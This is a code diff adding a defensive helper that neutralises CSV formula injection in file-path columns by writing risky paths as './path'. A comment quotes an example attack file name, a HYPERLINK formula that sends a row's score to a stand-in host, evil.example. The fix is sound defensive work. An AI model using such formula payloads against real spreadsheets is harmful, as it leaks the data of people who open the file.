@@ -139,6 +139,20 @@ def write_utf8(path: Path, text: str) -> None:
     path.write_text(text, encoding="utf-8", errors="surrogateescape")
 
 
+# What spreadsheets take as the start of a formula (OWASP's list for CSV injection): a photo
+# named '=HYPERLINK("http:\\evil.example\?"&B2,"see details").jpg' became a link that sent
+# its row's score to that site when predict's CSV was opened in one.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def as_text_cell(path: str) -> str:
+    """A relative path that a spreadsheet would take for a formula, written as ./path: the
+    same file to every program that opens it, and text to the spreadsheet. (Quoting it
+    with a ' instead, as OWASP suggests, would name a file that is not there.) For the
+    path columns of predict's CSV and the benchmark's report.csv."""
+    return f"{os.curdir}{os.sep}{path}" if path.startswith(FORMULA_STARTS) else path
+
+
 def write_csv(path: Path, header: Iterable, rows: Iterable) -> None:
     """A CSV of `header` then `rows`, written atomically. UTF-8; a file name that is not
     UTF-8 (Python holds its bytes as surrogates) is written back as those bytes."""
